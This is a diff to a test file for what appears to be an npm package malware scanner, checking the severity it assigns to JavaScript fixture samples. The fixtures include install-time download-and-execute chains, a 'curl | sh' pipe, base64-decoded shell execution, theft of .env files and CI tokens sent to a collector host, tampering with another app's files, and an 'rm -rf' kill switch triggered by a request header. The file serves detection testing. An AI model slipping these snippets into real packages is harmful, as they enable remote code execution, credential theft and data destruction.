@@ -48,17 +48,70 @@ test('listing ~/.ssh/*.pub next to an HTTP client is neither credential access n
   );
 });
 
-test('download → write → chmod: high at install, low when the download is checked against a hash', async () => {
-  const body = (check: boolean) =>
-    "const https = require('https');\nconst fs = require('fs');\nconst crypto = require('crypto');\nhttps.get('https://dl.invalid/tool', (res) => {\n  const parts = [];\n  res.on('data', (c) => parts.push(c));\n  res.on('end', () => {\n    const buf = Buffer.concat(parts);\n" +
+test('download → write → run the same file: high at install; chmod only: medium; hash checked: low; other file: none', async () => {
+  const body = (check: boolean, tail: string) =>
+    "const https = require('https');\nconst fs = require('fs');\nconst crypto = require('crypto');\nconst { spawn } = require('child_process');\nconst dest = require('os').tmpdir() + '/tool';\nhttps.get('https://dl.invalid/tool', (res) => {\n  const parts = [];\n  res.on('data', (c) => parts.push(c));\n  res.on('end', () => {\n    const buf = Buffer.concat(parts);\n" +
     (check ? "    if (crypto.createHash('sha256').update(buf).digest('hex') !== 'ab') throw new Error('bad');\n" : '') +
-    "    fs.writeFileSync('bin/tool', buf);\n    fs.chmodSync('bin/tool', 0o755);\n  });\n});\n";
-  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { install: 'node i.js' } }), 'i.js': body(false) }), [
+    `    fs.writeFileSync(dest, buf);\n${tail}  });\n});\n`;
+  const at = async (check: boolean, tail: string) =>
+    rules({ 'package.json': pkg({ scripts: { install: 'node i.js' } }), 'i.js': body(check, tail) });
+  const chmod = '    fs.chmodSync(dest, 0o755);\n';
+  assert.deepEqual(await at(false, chmod + '    spawn(dest, [], { detached: true });\n'), ['content/remote-code:high']);
+  assert.deepEqual(await at(false, chmod), ['content/remote-code:medium']);
+  assert.deepEqual(await at(true, chmod), ['content/remote-code:low']);
+  // The installer makes a different file executable (its own binary, unpacked elsewhere): no chain.
+  assert.deepEqual(await at(false, "    fs.chmodSync(require('./location').path, 0o755);\n"), []);
+});
+
+test('a file streamed from a download and then run is the same chain as a buffered one', async () => {
+  const js =
+    "const https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nconst out = '/tmp/.cache-x';\nhttps.get('https://dl.invalid/x', (res) => {\n  const file = fs.createWriteStream(out);\n  res.pipe(file);\n  file.on('finish', () => cp.execFile(out));\n});\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': js }), [
     'content/remote-code:high',
   ]);
-  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { install: 'node i.js' } }), 'i.js': body(true) }), [
-    'content/remote-code:low',
-  ]);
+});
+
+test('a credential sent to the address the environment configures is its intended use (OIDC token request)', async () => {
+  const js =
+    "async function token() {\n  const url = new URL(process.env.ACTIONS_ID_TOKEN_REQUEST_URL);\n  url.searchParams.append('audience', 'npm');\n  const res = await fetch(url.href, { headers: { Authorization: `Bearer ${process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN}` } });\n  return res.json();\n}\nmodule.exports = token;\n";
+  const found = (await run({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js })).findings.filter(
+    (f) => f.rule === 'content/secret-exfiltration',
+  );
+  assert.deepEqual(
+    found.map((f) => f.severity),
+    ['low'],
+  );
+  // The same token sent to a host written into the package, not named by the credential: high.
+  const hard = js.replace('process.env.ACTIONS_ID_TOKEN_REQUEST_URL', "'https://collect.invalid/t'");
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': hard }), ['content/secret-exfiltration:high']);
+});
+
+test('credential names are whole name segments: UNAUTHORIZED is not AUTH, a …_URL is where a token goes', async () => {
+  const js =
+    "const https = require('https');\nconst opts = { rejectUnauthorized: process.env.SASS_REJECT_UNAUTHORIZED !== '0', host: process.env.TOKEN_SERVER_URL };\nhttps.get('https://dl.invalid/binding.node', opts, (r) => r.resume());\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { install: 'node i.js' } }), 'i.js': js }), []);
+});
+
+test('bundles: net.isIP is not a connection, and a write to one parameter named options does not taint every options', async () => {
+  const js =
+    "const net = require('net');\nconst cp = require('child_process');\nfunction tlsConnect(options) {\n  options.servername = net.isIP(options.host) ? '' : options.host;\n  return require('tls').connect(options);\n}\nfunction spawn(command, args, options) {\n  return cp.spawn(command, args, options);\n}\nmodule.exports = { tlsConnect, spawn };\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js }), []);
+});
+
+test("a function's value is what it returns, not every call in its body", async () => {
+  const js =
+    "const fs = require('fs');\nconst { execSync } = require('child_process');\nasync function ensureTool() {\n  const p = '/opt/cache/tool';\n  if (fs.existsSync(p)) return p;\n  const res = await fetch('https://dl.invalid/tool');\n  const ok = res.ok;\n  return p;\n}\nasync function main() {\n  const tool = await ensureTool();\n  execSync(`\"${tool}\" --version`);\n}\nmodule.exports = main;\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js }), []);
+});
+
+test('paths: reading a file found under node_modules and writing elsewhere is not tampering; writing into its own installed copy neither', async () => {
+  const bundle =
+    "const fs = require('fs');\nconst path = require('path');\nlet dir = path.join(__dirname, 'node_modules', process.argv[2]);\nconst json = require(path.join(dir, 'package.json'));\nfs.writeFileSync(path.join(__dirname, 'dist', json.name + '.js'), 'x');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg(), 'scripts/bundle.js': bundle }), []);
+  const self = "const fs = require('fs');\nfs.writeFileSync(require('path').resolve('/usr/lib/node_modules/p', 'npmrc'), 'x');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg(), 'lib/finish.js': self }), []);
+  const other = self.replace('node_modules/p', 'node_modules/left-pad');
+  assert.deepEqual(await rules({ 'package.json': pkg(), 'lib/finish.js': other }), ['content/persistence:medium']);
 });
 
 test('binding.gyp without an install script is an install entry that reaches the files its expansions run', async () => {
@@ -134,14 +187,15 @@ test('replacing fetch is low alone and high with wallet-address matching', async
   ]);
 });
 
-test('a tool sending its own single token is medium at runtime; harvesting several secrets is high', async () => {
-  assert.deepEqual(
-    await rules({
+test('a tool sending its own token to the service it is named after is medium at runtime; elsewhere or harvesting is high', async () => {
+  const send = (host: string, name: string) =>
+    rules({
       'package.json': pkg({ main: 'i.js' }),
-      'i.js': "fetch('https://api.invalid/x', { headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n",
-    }),
-    ['content/secret-exfiltration:medium'],
-  );
+      'i.js': `fetch('https://${host}/x', { headers: { authorization: 'token ' + process.env.${name} } });\n`,
+    });
+  assert.deepEqual(await send('api.github.invalid', 'GITHUB_TOKEN'), ['content/secret-exfiltration:medium']);
+  assert.deepEqual(await send('api.openai.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:medium']);
+  assert.deepEqual(await send('collect.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:high']);
   assert.deepEqual(
     await rules({
       'package.json': pkg({ main: 'i.js' }),
@@ -150,4 +204,45 @@ test('a tool sending its own single token is medium at runtime; harvesting sever
     }),
     ['content/secret-exfiltration:high'],
   );
+});
+
+test('a command string that pipes a download into a shell is remote code in JavaScript too, one finding per behaviour', async () => {
+  const js = "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://dl.invalid/s.sh | sh');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': js }), [
+    'content/remote-code:critical',
+  ]);
+  const decoded = "require('child_process').exec('echo ZWNobyBoaQ== | base64 -d | sh');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': decoded }), [
+    'content/decoded-exec:critical',
+  ]);
+});
+
+test("a project's .env file is a secret when its contents are traced to a request; reading it for settings is not", async () => {
+  const leak =
+    "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nconst text = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8');\nhttps.get('https://collect.invalid/?d=' + encodeURIComponent(text));\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': leak }), ['content/secret-exfiltration:high']);
+  const settings =
+    "const fs = require('fs');\nconst https = require('https');\nconst cfg = fs.existsSync('.env') ? fs.readFileSync('.env', 'utf8') : '';\nconst mirror = /MIRROR=(.*)/.exec(cfg);\nhttps.get('https://dl.invalid/engine.tgz', (r) => r.resume());\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': settings }), []);
+});
+
+test('writing into another installed application is tampering; a build writing its own app bundle is not', async () => {
+  const patch =
+    "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst root = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'wallet', 'resources');\nfor (const f of fs.readdirSync(root)) fs.writeFileSync(path.join(root, f), 'x');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': patch }), [
+    'content/persistence:high',
+  ]);
+  const build =
+    "const fs = require('fs');\nconst path = require('path');\nfs.writeFileSync(path.join('dist', 'mac', 'App.app', 'Contents', 'Resources', 'app.asar'), 'x');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg(), 'build.js': build }), []);
+});
+
+test('a request handler that deletes files when a request field equals a fixed value is a remote kill switch', async () => {
+  const js = (cond: string) =>
+    `const { exec } = require('child_process');\nmodule.exports = (app) => app.post('/_/health', (req, res) => {\n  if (${cond}) exec('rm -rf ' + process.cwd());\n  res.end();\n});\n`;
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js("req.headers['x-key'] === 'k3y'") }), [
+    'content/sabotage:high',
+  ]);
+  // Clearing a cache on an ordinary condition is not a trigger.
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js('process.env.CLEAN === "1"') }), []);
 });
